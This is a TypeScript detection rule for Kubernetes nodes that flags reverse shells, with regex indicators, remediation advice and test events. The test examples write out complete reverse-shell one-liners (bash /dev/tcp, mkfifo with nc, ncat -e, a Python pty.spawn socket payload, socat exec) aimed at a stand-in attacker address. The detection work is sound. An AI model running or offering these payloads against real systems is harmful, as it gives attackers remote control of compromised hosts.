import { type NodeEvent, NodeEventType, type NodeProcess, type NodeSocket } from '../../../node/nodeEvent';
import { falcoAlertEvent, processConnectEvent, processExecEvent, tcpConnectEvent } from '../../../node/exampleNodeEvents';
import { type DetectionContext } from '../../detectionContext';
import { type AlertEntity, EntityType } from '../../entities';
import { commandLineOf, nodeDedupKey, nodeEventEntities } from '../../nodeEntities';
import {
  commandSearchText,
  isExecProbe,
  isLoopbackHost,
  isPrivateAddress,
  isShell,
  lowerCommandSearchText,
  parsedPipelines,
} from '../../predicates/nodeProcesses';
import { defineNodeRule, Intent, Severity } from '../../rule';

/** Programs that open a raw network connection a shell can be piped through. */
const NETWORK_CLIENTS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'telnet', 'openssl', 'socat', 'cryptcat']);
const NETCAT: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'cryptcat']);
const SHELL_NAME = /^(?:sh|bash|dash|ash|zsh|ksh|mksh|csh|tcsh|busybox)$/i;

const DEV_TCP = /\/dev\/(?:tcp|udp)\/([^\s/"'<>]+)\/\d+/gi;
/** The shell's output sent to the socket (`>& /dev/tcp/...`, `&> /dev/tcp/...`). */
const OUTPUT_TO_SOCKET = /(?:>&|&>)\s*\/dev\/(?:tcp|udp)\//i;
/** Standard input read from a socket descriptor, or an interactive shell, or a read loop: the shell obeys the socket. */
const INPUT_FROM_SOCKET = /(?:^|[\s;(|&])0?<&\s*\d+|\b0>&1\b|(?:^|[\s;(|&"'/])(?:ba|da|z|k|c|tc|a)?sh\s+-[a-z]*i|\bwhile\s+read\b/i;

interface Indicator {
  name: string;
  test: (text: string) => boolean;
}

/** Scripting one-liners that connect a socket and hand it to a shell (PayloadsAllTheThings' reverse shell cheat sheet). */
const interpreterIndicators: readonly Indicator[] = [
  {
    name: 'python socket one-liner',
    test: (text) => /\bpython[\d.]*\b/i.test(text) && /socket/i.test(text) && /connect\s*\(/i.test(text) && /dup2|pty\.spawn|subprocess/i.test(text),
  },
  {
    name: 'perl socket one-liner',
    test: (text) => /\bperl\b/i.test(text) && /use\s+Socket|IO::Socket/i.test(text) && /exec\b|open\s*\(\s*STD(?:IN|OUT)/i.test(text),
  },
  {
    name: 'ruby socket one-liner',
    test: (text) => /\bruby\b/i.test(text) && /-rsocket|TCPSocket/i.test(text) && /exec\b|spawn\b|popen|\/bin\/(?:ba)?sh/i.test(text),
  },
  {
    name: 'php socket one-liner',
    test: (text) => /\bphp[\d.]*\b/i.test(text) && /fsockopen|stream_socket_client/i.test(text) && /exec|system|passthru|proc_open|popen|`/i.test(text),
  },
  { name: 'lua socket one-liner', test: (text) => /\blua[\d.]*\b/i.test(text) && /socket/i.test(text) && /os\.execute|io\.popen/i.test(text) },
  { name: 'node socket one-liner', test: (text) => /\bnode\b/i.test(text) && /net\.Socket|require\(\s*['"]net['"]\s*\)/i.test(text) && /child_process/i.test(text) },
  { name: 'awk /inet/tcp one-liner', test: (text) => /\b[gm]?awk\b/i.test(text) && /\/inet\/(?:tcp|udp)\//i.test(text) },
];

/** `/dev/tcp` redirection to a remote host with the shell's input or output on it (not a `echo > /dev/tcp/db/5432` wait loop). */
function devTcpShell(text: string): boolean {
  let remote = false;
  for (const match of text.matchAll(DEV_TCP)) {
    if (!isLoopbackHost(match[1] ?? '')) {
      remote = true;
      break;
    }
  }
  return remote && (OUTPUT_TO_SOCKET.test(text) || INPUT_FROM_SOCKET.test(text));
}

/** Words of a netcat command that give it a program to run on the socket. */
function isNetcatExecOption(word: string): boolean {
  return word === '-e' || word === '-c' || word === '--exec' || word === '--sh-exec' || word === '--lua-exec' || /^-[a-z]*e$/i.test(word);
}

/** The reverse-shell indicators of a command line and the script of its `sh -c`. */
function commandIndicators(process: NodeProcess, context: DetectionContext): string[] {
  const found = new Set<string>();
  const text = commandSearchText(process, context);
  const lower = lowerCommandSearchText(process, context);
  if (lower.includes('/dev/') && devTcpShell(text)) found.add('shell redirected to /dev/tcp');
  for (const pipeline of parsedPipelines(process, context)) {
    let hasShell = false;
    let client: string | undefined;
    for (const { lowerName: name, words } of pipeline) {
      if (NETCAT.has(name) && words.some((word, index) => index > 0 && isNetcatExecOption(word))) {
        found.add('netcat with -e (program on the socket)');
      }
      if (
        name === 'socat' &&
        words.some((word, index) => index > 0 && /^(?:exec|system):/i.test(word)) &&
        words.some((word, index) => index > 0 && /^(?:tcp|tcp4|tcp6|udp|openssl|ssl)[\w-]*:/i.test(word))
      ) {
        found.add('socat exec: over a network address');
      }
      if (!hasShell && SHELL_NAME.test(name)) hasShell = true;
      if (client === undefined && NETWORK_CLIENTS.has(name)) client = name;
    }
    if (hasShell && client !== undefined && pipeline.length > 1) found.add(`shell piped through ${client}`);
  }
  for (const indicator of interpreterIndicators) if (indicator.test(text)) found.add(indicator.name);
  return [...found];
}

/** The socket of a connection event: a `tcp_connect` kprobe's `sock_arg`, or a book-era `process_connect`. */
function connectionOf(event: NodeEvent): NodeSocket | undefined {
  if (event.type === NodeEventType.processConnect) return event.socket;
  if (event.type !== NodeEventType.processKprobe || event.hook === undefined) return undefined;
  if (!/^tcp_(?:v[46]_)?connect$/.test(event.hook.functionName)) return undefined;
  return event.hook.args.find((arg) => arg.socket !== undefined)?.socket;
}

/** A shell that itself connects to an internet address: its descriptors were redirected to the network. */
function shellConnection(event: NodeEvent, context: DetectionContext): NodeSocket | undefined {
  const socket = connectionOf(event);
  if (socket?.daddr === undefined || isPrivateAddress(socket.daddr) || !isShell(event.process, context)) return undefined;
  return socket;
}

function indicatorsOf(event: NodeEvent, context: DetectionContext): string[] {
  if (event.type === NodeEventType.processExec) return isExecProbe(event) ? [] : commandIndicators(event.process, context);
  const socket = shellConnection(event, context);
  return socket === undefined ? [] : ['shell connected to an internet address'];
}

const attacker = '203.0.113.45';
const api = { namespace: 'shop', name: 'api-5b6c7d8e9f-k3j2h', container: 'api', image: 'contoso.azurecr.io/shop/api:2.14.0' };

export const reverseShell = defineNodeRule({
  id: 'reverse-shell',
  alertType: 'K8S.NODE_ReverseShell',
  displayName: 'Reverse shell: a shell wired to a network connection',
  description:
    'A shell was started with its input and output on a network connection to a remote host: `bash -i >& /dev/tcp/<host>/<port>`, ' +
    'netcat or ncat with `-e`, socat `exec:` over TCP, a shell piped through nc, telnet or openssl (the mkfifo pattern), or a ' +
    'Python, Perl, Ruby, PHP, Lua, Node.js or awk one-liner that connects a socket and hands it to a shell. When the sensor reports ' +
    'connections, a shell binary that itself connects to an internet address is the same thing seen from the network. Attackers ' +
    'use reverse shells to control a compromised container or node from outside, through egress that is usually allowed.',
  // Defender rates it Medium; a working reverse shell is hands-on-keyboard control, so High here.
  severity: Severity.High,
  intent: Intent.Execution,
  techniques: ['T1059.004', 'T1059.006', 'T1071', 'T1095'],
  remediation: [
    'Treat the container (or node) as compromised: isolate it with a deny-all network policy, capture what you need, then delete the pod.',
    'Block the remote address at the egress firewall and look for other connections to it from the cluster.',
    'Find how the command got there (web request, exec session, compromised image) and fix that entry point; rotate the credentials the pod could read.',
    'Restrict egress from workloads to what they need (network policies, Azure Firewall), and remove shells and netcat from production images.',
  ],
  falsePositives: [
    'Penetration tests and red-team exercises.',
    'Debugging sessions that pipe a shell through netcat or socat on purpose (rare in production).',
  ],
  references: [
    'https://attack.mitre.org/techniques/T1059/004/',
    'https://github.com/swisskyrepo/PayloadsAllTheThings/blob/master/Methodology%20and%20Resources/Reverse%20Shell%20Cheatsheet.md',
    'https://learn.microsoft.com/azure/defender-for-cloud/alerts-containers',
    'https://tetragon.io/docs/getting-started/network/',
  ],
  equivalents: {
    defender: ['K8S.NODE_ReverseShell'],
    falco: ['Redirect STDOUT/STDIN to Network Connection in Container', 'Netcat Remote Code Execution in Container'],
    guardDuty: ['Execution:Runtime/ReverseShell'],
    elastic: ['Potential Reverse Shell', 'Potential Reverse Shell via Background Process', 'Potential Reverse Shell Activity via Terminal', 'Potential Netcat Reverse Shell Execution'],
  },
  eventTypes: [NodeEventType.processExec, NodeEventType.processKprobe, NodeEventType.processConnect],
  match: (event, context) => indicatorsOf(event, context).length > 0,
  entities: (event) => {
    const entities: AlertEntity[] = nodeEventEntities(event);
    const socket = connectionOf(event);
    if (socket?.daddr !== undefined) entities.push({ type: EntityType.ip, address: socket.daddr, ...(socket.dport === undefined ? {} : { port: socket.dport }) });
    return entities;
  },
  details: (event, context) => ({
    command: commandLineOf(event.process),
    indicators: indicatorsOf(event, context).join(', '),
    ...(event.falco === undefined ? {} : { falcoRule: event.falco.rule }),
  }),
  dedupKey: (event) => nodeDedupKey(event, 'reverse-shell'),
  examples: [
    {
      name: 'bash -i >& /dev/tcp/<attacker>/4444 0>&1 in an application container',
      expect: 'alert',
      event: processExecEvent({
        binary: '/bin/bash',
        arguments: `-c "bash -i >& /dev/tcp/${attacker}/4444 0>&1"`,
        pod: api,
        parent: { binary: '/usr/local/bin/node', arguments: '/app/dist/server.js', pid: 1 },
      }),
    },
    {
      name: 'the mkfifo pattern: cat /tmp/f | sh -i 2>&1 | nc <attacker> 443 > /tmp/f',
      expect: 'alert',
      event: processExecEvent({
        binary: '/bin/sh',
        arguments: `-c "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ${attacker} 443 >/tmp/f"`,
        pod: api,
        parent: { binary: '/bin/sh', arguments: '-c "/app/scripts/import.sh"' },
      }),
    },
    {
      name: 'ncat -e /bin/bash to the attacker',
      expect: 'alert',
      event: processExecEvent({ binary: '/usr/bin/ncat', arguments: `${attacker} 8443 -e /bin/bash`, pod: api, parent: { binary: '/bin/bash', arguments: '' } }),
    },
    {
      name: 'python3 socket and pty.spawn one-liner',
      expect: 'alert',
      event: processExecEvent({
        binary: '/usr/local/bin/python3',
        arguments: `-c "import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('${attacker}',9001));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn('/bin/sh')"`,
        pod: api,
        parent: { binary: '/bin/sh', arguments: '' },
      }),
    },
    {
      name: 'socat exec:bash over tcp',
      expect: 'alert',
      event: processExecEvent({ binary: '/usr/bin/socat', arguments: `exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:${attacker}:4443`, pod: api }),
    },
    {
      name: 'bash itself connects to an internet address (tcp_connect)',
      expect: 'alert',
      event: tcpConnectEvent({ process: { binary: '/bin/bash', arguments: '-i', pod: api }, parent: { binary: '/bin/sh', arguments: '' }, daddr: attacker, dport: 4444 }),
    },
    {
      name: 'bash connects out (book-era process_connect)',
      expect: 'alert',
      event: processConnectEvent({ process: { binary: '/usr/bin/bash', arguments: '-i', pod: api }, destinationIp: attacker, destinationPort: 4444 }),
    },
    {
      name: 'Falco: Redirect STDOUT/STDIN to Network Connection in Container',
      expect: 'alert',
      event: falcoAlertEvent({
        rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
        outputFields: { 'proc.cmdline': 'bash -i', 'proc.exepath': '/bin/bash', 'proc.name': 'bash', 'proc.pname': 'sh', 'fd.sip': attacker, 'evt.type': 'dup2' },
        tags: ['maturity_stable', 'container', 'network', 'process', 'mitre_execution', 'T1059'],
      }),
    },
    {
      name: 'wait-for-it checks that the database port is open with /dev/tcp',
      expect: 'none',
      event: processExecEvent({
        binary: '/bin/bash',
        arguments: '-c "(echo -n > /dev/tcp/postgres.shop.svc.cluster.local/5432) >/dev/null 2>&1"',
        pod: api,
        parent: { binary: '/bin/bash', arguments: '/app/wait-for-it.sh postgres.shop.svc.cluster.local:5432 -- node dist/server.js', pid: 1 },
      }),
    },
    {
      name: 'an HTTP health check over /dev/tcp to localhost',
      expect: 'none',
      event: processExecEvent({
        binary: '/bin/bash',
        arguments: `-c "exec 3<>/dev/tcp/127.0.0.1/8080 && echo -e 'GET /healthz HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3 | grep -q 200"`,
        pod: api,
        parent: { binary: '/usr/bin/runc', arguments: '--root /run/containerd/runc/k8s.io exec --detach 8c1e4f0b2a9d', pod: null },
      }),
    },
    {
      name: 'nc -z port check',
      expect: 'none',
      event: processExecEvent({ binary: '/usr/bin/nc', arguments: '-z -w 2 redis.shop.svc.cluster.local 6379', pod: api, parent: { binary: '/bin/sh', arguments: '/app/entrypoint.sh', pid: 1 } }),
    },
    {
      name: 'sh connects to the cluster DNS service (private address)',
      expect: 'none',
      event: tcpConnectEvent({ process: { binary: '/bin/sh', arguments: '/app/entrypoint.sh', pod: api }, daddr: '10.0.0.10', dport: 53 }),
    },
    {
      name: 'curl connects to an internet address (not a shell)',
      expect: 'none',
      event: tcpConnectEvent({ process: { binary: '/usr/bin/curl', arguments: '-fsS https://api.github.com/repos/contoso/shop/releases/latest', pod: api }, daddr: '140.82.112.6', dport: 443 }),
    },
  ],
});
